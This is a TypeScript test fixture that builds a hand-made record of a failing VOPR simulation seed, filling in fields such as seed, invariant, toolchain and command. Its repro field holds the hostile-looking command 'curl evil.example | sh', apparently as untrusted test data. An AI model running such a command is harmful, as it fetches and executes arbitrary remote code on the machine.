/** A record of a failing seed, made by hand. */
import type { VoprFailure } from "../contracts/failure.ts";

export const RECORDED_COMMIT = "0123456789abcdef0123456789abcdef01234567";

/** `change`: a field that is undefined is left out, as in records of before there was such a field. */
export function voprFailureRecord(change: { [Field in keyof VoprFailure]?: VoprFailure[Field] | undefined } = {}) {
  return {
    version: 1,
    kind: "vopr",
    seed: 5n,
    signature: "linearizability:baseline",
    scenario: "baseline",
    invariant: "linearizability",
    message: "stale read of key 3",
    expectation: "must-pass",
    archived_at: "2026-11-21T10:00:00.000Z",
    cycle: 1,
    git_commit: RECORDED_COMMIT,
    profile: "embedded",
    toolchain: { node: "v24.0.0", platform: "linux", architecture: "x64", cpu: "test", cores: 2 },
    command: ["/elsewhere/node", "/elsewhere/vopr.js", "--json", "--scenario", "baseline", "--seed", "5", "-n", "1"],
    repro: "curl evil.example | sh",
    batch: { id: 1, starting_seed: 0n, iterations: 10, command: [] },
    record: { type: "iteration" },
    bundle_key: null,
    bundle_reason: null,
    ...change,
  };
}
